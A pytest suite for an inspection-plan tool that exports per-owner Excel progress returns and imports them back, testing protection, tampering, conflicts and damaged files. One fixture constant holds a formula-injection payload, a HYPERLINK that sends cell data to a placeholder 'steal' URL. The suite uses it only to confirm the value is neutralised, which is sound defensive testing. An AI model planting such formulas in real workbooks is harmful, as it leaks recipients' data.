"""The owners' update round: progress returns written per owner, filled in as an owner would
(openpyxl, and once saved by LibreOffice Calc), and applied back to the plan."""

from __future__ import annotations

import argparse
import io
import json
import os
import shutil
import subprocess
from datetime import date, datetime
from pathlib import Path
from typing import Any

import peewee
import pytest
from openpyxl import load_workbook  # type: ignore[import-untyped]

from db.models import Action, AuditEntry, Milestone
from esi_desktop import plan
from esi_desktop.audit import acting_as
from esi_desktop.cli.returns import export_returns, import_returns
from esi_desktop.errors import EsiError
from esi_desktop.export.xlsx_plan import plan_xlsx
from esi_desktop.returns import (
    ReturnRefused,
    apply_return,
    read_return,
    return_file_name,
    write_returns,
)
from esi_desktop.returns.workbook import HIDDEN_SHEET, SHEET, digest_of, read_record
from tests.test_export import TODAY, FilledPlan, fill_plan, rec_id

SENT = date(2005, 5, 2)
EVIL = '=HYPERLINK("http://example.invalid/steal?x="&A1,"Click")'
TRAINING = "Zoë Brontë, Head of Learning and Development"
OPERATIONS = "ACO Operations"
HOUSING = "Housing: lead/officer?"


@pytest.fixture
def filled(sample_db: peewee.Database) -> FilledPlan:
    """fill_plan's two owners, and a third with an action that has no milestones."""
    filled = fill_plan()
    filled.actions["third"] = plan.add_action(
        inspection_id=filled.inspection_id,
        recommendation_ids=[rec_id("T1")],
        text="Agree an accommodation protocol with the district councils",
        owner=HOUSING,
        target_date=date(2005, 5, 1),
    )
    plan.update_milestone(
        milestone_id=filled.milestones["tool"], changes={"evidence": EVIL}, today=TODAY
    )
    plan.add_board_meeting(inspection_id=filled.inspection_id, meeting_date=date(2005, 5, 26))
    return filled


def written(filled: FilledPlan, folder: Path) -> dict[str, Path]:
    paths = write_returns(inspection_id=filled.inspection_id, folder=folder, today=SENT)
    return {load_workbook(p)[HIDDEN_SHEET]["B4"].value: p for p in paths}


def table(path: Path) -> dict[str, int]:
    """Reference → row number in the return's sheet."""
    sheet = load_workbook(path)[SHEET]
    return {
        str(row[0].value): row[0].row
        for row in sheet.iter_rows(min_row=9)
        if row[0].value is not None
    }


def answer(path: Path, reference: str, **cells: Any) -> None:
    """Fill in a row as an owner would, in Excel: status, completed on, evidence, comment."""
    book = load_workbook(path)
    sheet = book[SHEET]
    number = table(path)[reference]
    columns = {"status": "E", "completed_on": "F", "evidence": "G", "comment": "H"}
    for name, value in cells.items():
        sheet[f"{columns[name]}{number}"] = value
        if isinstance(value, date):
            sheet[f"{columns[name]}{number}"].number_format = "dd/mm/yyyy"
    book.save(path)


def test_one_protected_workbook_per_owner_with_drop_downs_and_a_very_hidden_record(
    filled: FilledPlan, tmp_path: Path
) -> None:
    returns = written(filled, tmp_path)
    assert set(returns) == {TRAINING, OPERATIONS, HOUSING}
    assert returns[OPERATIONS].name == "ACO Operations – progress return 2 May 2005.xlsx"
    assert returns[HOUSING].name == "Housing lead officer – progress return 2 May 2005.xlsx"
    book = load_workbook(returns[OPERATIONS])
    assert book.sheetnames == [SHEET, HIDDEN_SHEET]
    assert book[HIDDEN_SHEET].sheet_state == "veryHidden"
    assert book.security.lockStructure
    sheet = book[SHEET]
    title = " ".join(str(sheet.cell(row=r, column=1).value) for r in range(1, 7))
    assert "Progress return" in title and OPERATIONS in title and "Gloucestershire" in title
    assert "Sent on 2 May 2005" in title
    # 7 days before the Board meeting of 26 May 2005
    assert "Please return it by 19 May 2005" in title
    assert sheet.protection.sheet
    rows = table(returns[OPERATIONS])
    # the open action, then its open milestones (AP2.1 and AP2.2 are both open)
    assert list(rows) == ["AP2", "AP2.1", "AP2.2"]
    first = rows["AP2.1"]
    for column in "ABCD":
        assert sheet[f"{column}{first}"].protection.locked
    for column in "EFGH":
        assert not sheet[f"{column}{first}"].protection.locked
    # an action with milestones takes only a comment
    assert sheet[f"E{rows['AP2']}"].protection.locked
    assert not sheet[f"H{rows['AP2']}"].protection.locked
    assert sheet[f"D{first}"].value == datetime(2005, 5, 15)
    validations = sheet.data_validations.dataValidation
    lists = [v for v in validations if v.type == "list"]
    assert lists and lists[0].formula1 == '"Not started,In progress,Complete"'
    assert f"E{first}" in str(lists[0].sqref) and f"E{rows['AP2']}" not in str(lists[0].sqref)
    assert any(v.type == "date" and f"F{first}" in str(v.sqref) for v in validations)
    # formula injection: shown as typed, stored as text
    evidence = sheet[f"G{first}"]
    assert evidence.value == EVIL and evidence.data_type == "s" and evidence.quotePrefix
    # the complete milestone AP1.1 is not asked about; internal notes never go out
    assert list(table(returns[TRAINING])) == ["AP1", "AP1.2"]
    for path in returns.values():
        for each in load_workbook(path).worksheets:
            for values in each.iter_rows(values_only=True):
                assert not any("not-for-print" in str(v) for v in values if v)


def test_a_filled_return_is_applied_as_made_by_the_owner(
    filled: FilledPlan, tmp_path: Path
) -> None:
    path = written(filled, tmp_path)[OPERATIONS]
    answer(path, "AP2.1", status="Complete", completed_on=date(2005, 5, 20),
           evidence="Audit tool v1 agreed at SMT", comment="Took longer than planned")  # fmt: skip
    answer(path, "AP2.2", status="In progress")
    preview = read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    assert preview.owner == OPERATIONS and not preview.conflicts
    outcome = apply_return(preview=preview)
    assert [a.reference for a in outcome.applied] == ["AP2.1", "AP2.2"]
    tool = Milestone.get_by_id(filled.milestones["tool"])
    assert (tool.status, tool.completed_on) == ("Complete", date(2005, 5, 20))
    assert tool.evidence == "Audit tool v1 agreed at SMT"
    assert Milestone.get_by_id(filled.milestones["report"]).status == "In progress"
    note = Action.get_by_id(filled.actions["second"]).internal_note
    assert note.startswith("NOTE-ON-ACTION-not-for-print\n\n")
    assert "01/06/2005 — ACO Operations (progress return sent 02/05/2005), on AP2.1: " in note
    assert note.endswith("Took longer than planned")
    who = {
        e.changed_by
        for e in AuditEntry.select().where(AuditEntry.changed_at >= datetime(2000, 1, 1))
        if e.field in ("status", "completed_on", "evidence", "internal_note")
        and e.item_id in (tool.id, filled.milestones["report"], filled.actions["second"])
        and e.old_value != e.new_value
    }
    assert "ACO Operations (progress return)" in who
    entries = AuditEntry.select().where(
        (AuditEntry.item_kind == "milestone") & (AuditEntry.item_id == tool.id)
    )
    assert entries.order_by(AuditEntry.id.desc()).first().changed_by == (
        "ACO Operations (progress return)"
    )
    # importing it again: the plan already says so, or it changed since: nothing doubles
    again = apply_return(
        preview=read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    )
    assert not [a for a in again.applied if a.changes]
    assert Action.get_by_id(filled.actions["second"]).internal_note.count("Took longer") == 1


def test_a_row_changed_since_the_return_was_sent_is_a_conflict_and_not_applied(
    filled: FilledPlan, tmp_path: Path
) -> None:
    path = written(filled, tmp_path)[OPERATIONS]
    with acting_as("Secretary"):
        plan.update_milestone(
            milestone_id=filled.milestones["tool"], changes={"title": "Audit tool v2"}, today=TODAY
        )
    answer(path, "AP2.1", status="Complete", completed_on=date(2005, 5, 20))
    answer(path, "AP2.2", status="In progress")
    preview = read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    assert [c.reference for c in preview.conflicts] == ["AP2.1"]
    assert "changed in the plan by Secretary" in preview.conflicts[0].message
    outcome = apply_return(preview=preview)
    assert [a.reference for a in outcome.applied] == ["AP2.2"]
    assert [c.reference for c in outcome.conflicts] == ["AP2.1"]
    assert Milestone.get_by_id(filled.milestones["tool"]).status == "Not started"


def test_a_tampered_reference_column_is_refused(filled: FilledPlan, tmp_path: Path) -> None:
    path = written(filled, tmp_path)[TRAINING]
    book = load_workbook(path)
    book[SHEET][f"A{table(path)['AP1.2']}"] = "AP1.1"
    book.save(path)
    with pytest.raises(ReturnRefused, match=r"cell A\d+ reads “AP1.1” where the return sent AP1.2"):
        read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)


def test_a_changed_hidden_record_is_refused(filled: FilledPlan, tmp_path: Path) -> None:
    path = written(filled, tmp_path)[TRAINING]
    book = load_workbook(path)
    hidden = book[HIDDEN_SHEET]
    last = hidden.max_row
    hidden[f"C{last}"] = filled.milestones["report"]  # point the row at another item
    book.save(path)
    with pytest.raises(ReturnRefused, match="does not match its check"):
        read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)


def test_a_return_for_another_inspection_is_refused(filled: FilledPlan, tmp_path: Path) -> None:
    path = written(filled, tmp_path)[TRAINING]
    book = load_workbook(path)
    hidden = book[HIDDEN_SHEET]
    record = read_record([tuple(r) for r in hidden.iter_rows(values_only=True)], path.name)
    hidden["B2"] = 3
    hidden["B3"] = "Wiltshire — March 2006"
    hidden["B8"] = digest_of(3, record.owner, record.sent_on, record.items, record.identity)
    book.save(path)
    with pytest.raises(ReturnRefused) as refused:
        read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    assert str(refused.value).startswith(
        f"{path.name}: this return is for the inspection of Wiltshire — March 2006 (id 3); "
        f"the open inspection is Gloucestershire — January 2005 (id {filled.inspection_id})."
    )


def _other_database(tmp_path: Path, name: str) -> str:
    """A new database at ``name`` with the sample loaded (ids from 1 again); left connected."""
    from esi_desktop import database
    from esi_desktop.report.importer import load_sample

    url = f"sqlite:///{tmp_path / name}"
    database.connect(url)
    load_sample()
    return url


def test_a_return_from_another_database_is_not_applied_to_unrelated_items(
    filled: FilledPlan, tmp_path: Path
) -> None:
    # review 14, finding 1: every database numbers its rows from 1
    path = written(filled, tmp_path)[OPERATIONS]  # AP2, AP2.1, AP2.2
    answer(path, "AP2.1", status="Complete", completed_on=date(2005, 5, 20))
    _other_database(tmp_path, "other.sqlite3")
    inspection_id = plan.load_plan(inspection_id=1, today=TODAY).inspection_id
    hr = plan.add_action(
        inspection_id=inspection_id,
        recommendation_ids=[rec_id("1")],
        text="Refresh the appraisal scheme",
        owner="Head of HR",
        target_date=date(2005, 12, 31),
    )
    ids = [
        plan.add_milestone(action_id=hr, title=f"Step {n}", due_date=date(2005, 9, n), today=TODAY)
        for n in range(1, 5)
    ]
    assert filled.milestones["tool"] in ids  # the same id, an unrelated milestone (AP1.3)
    with pytest.raises(ReturnRefused) as refused:
        read_return(inspection_id=inspection_id, path=path, today=TODAY)
    assert "was written from another database" in str(refused.value)
    assert "AP2.1" in str(refused.value) and "AP1.3" in str(refused.value)
    assert Milestone.get_by_id(filled.milestones["tool"]).status == "Not started"


def test_a_return_for_an_inspection_with_the_same_id_elsewhere_is_refused(
    filled: FilledPlan, tmp_path: Path
) -> None:
    path = written(filled, tmp_path)[OPERATIONS]
    _other_database(tmp_path, "other.sqlite3")
    from db.models import Inspection

    Inspection.update(area="Wiltshire", report_title="Another report").execute()
    inspection_id = Inspection.select().get().id
    assert inspection_id == filled.inspection_id
    with pytest.raises(ReturnRefused) as refused:
        read_return(inspection_id=inspection_id, path=path, today=TODAY)
    said = str(refused.value)
    assert said.startswith(f"{path.name}: this return was written from another database")
    assert "Gloucestershire" in said and "Wiltshire, “Another report”" in said


def test_an_untouched_evidence_note_with_double_spaces_and_indents_is_not_a_change(
    filled: FilledPlan, tmp_path: Path
) -> None:
    # review 14, finding 4: the note as sent is compared as the owner's cell is
    typed = "Audit  tool drafted\n  - see SMT minutes"
    plan.update_milestone(
        milestone_id=filled.milestones["tool"], changes={"evidence": typed}, today=TODAY
    )
    path = written(filled, tmp_path)[OPERATIONS]
    answer(path, "AP2.2", comment="On track")  # saved by the owner, AP2.1 untouched
    preview = read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    tool = next(r for r in preview.rows if r.reference == "AP2.1")
    assert tool.outcome == "unchanged" and not tool.answered
    # spacing a spreadsheet changed is not a change either; a real one keeps the owner's lines
    answer(path, "AP2.1", evidence="Audit tool drafted  \r\n- see SMT minutes ")
    preview = read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    assert next(r for r in preview.rows if r.reference == "AP2.1").outcome == "unchanged"
    answer(path, "AP2.1", evidence="Audit  tool agreed\n  - see SMT minutes")
    preview = read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    tool = next(r for r in preview.rows if r.reference == "AP2.1")
    assert tool.outcome == "apply"
    assert tool.changes == {"evidence": "Audit  tool agreed\n  - see SMT minutes"}


def _break_sheet(path: Path, part: str, damage: Any) -> None:
    """Rewrite one part of the workbook's zip with ``damage`` applied to its bytes."""
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info, damage(data) if info.filename == part else data)
    path.write_bytes(out.getvalue())


def _spoil_sheet_data(path: Path) -> None:
    """Flip bytes inside the first sheet's compressed data: its zip entry fails its CRC or
    does not inflate, found only when its rows are read."""
    import zipfile

    data = bytearray(path.read_bytes())
    info = zipfile.ZipFile(path).getinfo("xl/worksheets/sheet1.xml")
    name_length, extra_length = (
        int.from_bytes(data[info.header_offset + at : info.header_offset + at + 2], "little")
        for at in (26, 28)
    )
    start = info.header_offset + 30 + name_length + extra_length
    for offset in range(info.compress_size // 2, info.compress_size // 2 + 8):
        data[start + offset] ^= 0x5A
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("damage", ["xml", "zip"])
def test_a_damaged_sheet_is_refused_with_a_sentence_not_a_traceback(
    filled: FilledPlan, tmp_path: Path, db_url: str, damage: str
) -> None:
    # review 14, finding 6: read-only openpyxl parses a sheet only while its rows are read
    path = written(filled, tmp_path)[OPERATIONS]
    if damage == "xml":
        _break_sheet(
            path,
            "xl/worksheets/sheet1.xml",
            lambda d: d.replace(b"</sheetData>", b'<row r="99"><c r="A99"><v>1</v></row>'),
        )
    else:
        _spoil_sheet_data(path)
    with pytest.raises(ReturnRefused, match="is not an Excel workbook or it is damaged"):
        read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    out, err = io.StringIO(), io.StringIO()
    args = _args(db=db_url, paths=[path], dry_run=True, json=True)
    assert import_returns(args, out, err) == 2
    (document,) = json.loads(out.getvalue())["files"]
    assert "is not an Excel workbook or it is damaged" in document["refused"]
    from esi_desktop import database

    database.connect(db_url)


def test_a_workbook_that_is_not_a_return_is_refused(filled: FilledPlan, tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    path.write_bytes(plan_xlsx(inspection_id=filled.inspection_id, today=TODAY))
    with pytest.raises(ReturnRefused, match="not a progress return written by ESI Desktop"):
        read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)


def test_cells_that_cannot_be_read_or_break_a_rule_are_warnings_naming_the_cell(
    filled: FilledPlan, tmp_path: Path
) -> None:
    path = written(filled, tmp_path)[OPERATIONS]
    rows = table(path)
    answer(path, "AP2.1", status="Complete", completed_on="next Tuesday week")
    answer(path, "AP2.2", status="Complete", completed_on=date(2005, 7, 1))  # after today
    preview = read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    outcome = apply_return(preview=preview)
    assert not outcome.applied
    text = "\n".join(outcome.warnings)
    assert f"Row {rows['AP2.1']} (AP2.1), cell F{rows['AP2.1']}: 'next Tuesday week'" in text
    assert f"Row {rows['AP2.2']} (AP2.2), cell F{rows['AP2.2']}: The completion date" in text
    assert "in the future" in text
    assert Milestone.get_by_id(filled.milestones["tool"]).status == "Not started"


def test_answers_on_an_action_without_milestones_go_to_its_internal_note(
    filled: FilledPlan, tmp_path: Path
) -> None:
    path = written(filled, tmp_path)[HOUSING]
    answer(path, "AP3", status="Complete", completed_on=date(2005, 5, 30), comment="Signed")
    preview = read_return(inspection_id=filled.inspection_id, path=path, today=TODAY)
    assert any("AP3 has no milestones" in w for w in preview.warnings)
    apply_return(preview=preview)
    action = Action.get_by_id(filled.actions["third"])
    assert action.internal_note.endswith("on AP3: status Complete, completed on 30/05/2005; Signed")
    assert action.owner == HOUSING and action.target_date == date(2005, 5, 1)


def _args(**values: Any) -> argparse.Namespace:
    return argparse.Namespace(**{"db": None, "inspection": None, "force": False, **values})


def test_the_command_line_dry_run_stores_nothing_and_json_says_what_would_change(
    filled: FilledPlan, tmp_path: Path, db_url: str
) -> None:
    path = written(filled, tmp_path)[OPERATIONS]
    answer(path, "AP2.1", status="Complete", completed_on=date(2005, 5, 20))
    before = AuditEntry.select().count()
    out, err = io.StringIO(), io.StringIO()
    args = _args(db=db_url, paths=[path], dry_run=True, json=True)
    assert import_returns(args, out, err) == 0
    document = json.loads(out.getvalue())["files"][0]
    assert document["owner"] == OPERATIONS and document["imported"] is False
    assert document["applied"][0]["reference"] == "AP2.1"
    assert {"field": "status", "old": "Not started", "new": "Complete"} in document["applied"][0][
        "changes"
    ]
    assert document["conflicts"] == [] and isinstance(document["warnings"], list)
    from esi_desktop import database

    database.connect(db_url)
    assert AuditEntry.select().count() == before
    assert Milestone.get_by_id(filled.milestones["tool"]).status == "Not started"
    out = io.StringIO()
    args = _args(db=db_url, paths=[path, tmp_path / "missing.xlsx"], dry_run=False, json=True)
    assert import_returns(args, out, err) == 2  # one file refused, the other applied
    files = json.loads(out.getvalue())["files"]
    assert files[0]["imported"] and files[0]["applied"][0]["changes"]
    assert "There is no file" in files[1]["refused"]
    database.connect(db_url)


def test_the_command_line_writes_returns_into_a_folder_that_exists(
    filled: FilledPlan, tmp_path: Path, db_url: str
) -> None:
    out, err = io.StringIO(), io.StringIO()
    with pytest.raises(EsiError, match="There is no folder"):
        export_returns(_args(db=db_url, out=tmp_path / "nowhere"), out, err)
    folder = tmp_path / "returns"
    folder.mkdir()
    assert export_returns(_args(db=db_url, out=folder), out, err) == 0
    assert "Wrote 3 progress returns" in out.getvalue()
    assert len(list(folder.glob("*.xlsx"))) == 3
    from esi_desktop import database

    database.connect(db_url)


def test_file_names_are_safe_for_windows() -> None:
    assert return_file_name('ACO: "Ops"/North*', SENT) == (
        "ACO Ops North – progress return 2 May 2005.xlsx"
    )
    assert return_file_name("CON", SENT).startswith("CON (owner) – ")
    # the reminders' rule, now shared: Windows finds the device before the first dot, and a
    # long name in another script stays within Linux's 255 bytes
    assert return_file_name("CON.x", SENT).startswith("CON (owner).x – ")
    assert len(return_file_name("会" * 200, SENT).encode("utf-8")) < 200
    assert return_file_name("...", SENT).startswith("Owner – ")
    assert len(return_file_name("x" * 300, SENT)) < 130


@pytest.mark.skipif(
    shutil.which("soffice") is None and not os.environ.get("CI"),
    reason="LibreOffice is not installed",
)
def test_a_return_saved_by_libreoffice_is_still_read_and_applied(
    filled: FilledPlan, tmp_path: Path
) -> None:
    path = written(filled, tmp_path)[OPERATIONS]
    answer(path, "AP2.1", status="Complete", completed_on=date(2005, 5, 20), evidence="Minutes")
    saved = tmp_path / "saved"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'lo_profile_returns'}",
            "--headless",
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            str(saved),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    again = saved / path.name
    book = load_workbook(again)
    assert book[SHEET].protection.sheet
    assert book[HIDDEN_SHEET].sheet_state in ("hidden", "veryHidden")
    assert book[SHEET][f"A{table(again)['AP2.1']}"].protection.locked
    outcome = apply_return(
        preview=read_return(inspection_id=filled.inspection_id, path=again, today=TODAY)
    )
    assert [a.reference for a in outcome.applied] == ["AP2.1"]
    tool = Milestone.get_by_id(filled.milestones["tool"])
    assert (tool.status, tool.completed_on, tool.evidence) == (
        "Complete",
        date(2005, 5, 20),
        "Minutes",
    )
